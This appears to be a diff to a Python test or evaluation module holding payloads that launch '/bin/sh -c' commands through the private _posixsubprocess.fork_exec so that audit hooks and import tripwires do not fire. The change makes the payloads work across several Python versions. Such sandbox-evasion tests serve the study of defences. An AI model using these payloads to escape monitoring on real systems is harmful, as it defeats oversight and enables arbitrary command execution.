@@ -6,25 +6,34 @@ and ``sys`` importable, and both are already loaded, so no first-import
 tripwire fires.
 """
 
-# fork_exec's arguments on 3.12/3.13 (23), 3.11 (22) and 3.10 (21)
+# fork_exec's arguments changed within minor releases (3.11.7 took the
+# vfork flag that 3.11.0 lacked), so the payload tries each known shape:
+# 23 arguments (3.11.7+, 3.12, 3.13), 22 (early 3.11), 21 (3.10).
 _ARGS = ("import os, subprocess, sys\n"
          "r, w = os.pipe()\n"
-         "tail = (False, False, -1, None, None, None, -1, None)\n"
-         "if sys.version_info >= (3, 12):\n    tail += (subprocess._USE_VFORK,)\n"
-         "elif sys.version_info < (3, 11):\n"
-         "    tail = (False, False, None, None, None, -1, None)\n"
+         "tails = [(False, False, -1, None, None, None, -1, None, True),\n"
+         "         (False, False, -1, None, None, None, -1, None),\n"
+         "         (False, False, None, None, None, -1, None)]\n"
          "argv = [b'/bin/sh', b'-c', @C@.encode()]\n"
-         "head = (argv, [b'/bin/sh'], True, (), None, None, -1, -1, -1, -1, -1, -1, r, w)\n")
+         "head = (argv, [b'/bin/sh'], True, (), None, None, -1, -1, -1, -1, -1, -1, r, w)\n"
+         "def spawn(fe):\n"
+         "    for tail in tails:\n"
+         "        try:\n"
+         "            return fe(*head, *tail)\n"
+         "        except TypeError as e:\n"
+         "            if 'argument' not in str(e):\n"
+         "                raise\n"
+         "    raise TypeError('no known fork_exec signature')\n")
 
 PAYLOADS = [
     ("fork_exec_via_subprocess", "unaudited_spawn", "run_command",
      _ARGS + "fe = getattr(subprocess, '_fork_exec', None) or subprocess._posixsubprocess.fork_exec\n"
-     "os.waitpid(fe(*head, *tail), 0)"),
+     "os.waitpid(spawn(fe), 0)"),
     ("fork_exec_via_sys_modules", "unaudited_spawn", "run_command",
      _ARGS + "import sys\nfe = sys.modules['_posixsubprocess'].fork_exec\n"
-     "os.waitpid(fe(*head, *tail), 0)"),
+     "os.waitpid(spawn(fe), 0)"),
     # the extension module itself: already loaded, so no import event
     ("fork_exec_direct_import", "unaudited_spawn", "run_command",
      _ARGS + "import _posixsubprocess\n"
-     "os.waitpid(_posixsubprocess.fork_exec(*head, *tail), 0)"),
+     "os.waitpid(spawn(_posixsubprocess.fork_exec), 0)"),
 ]
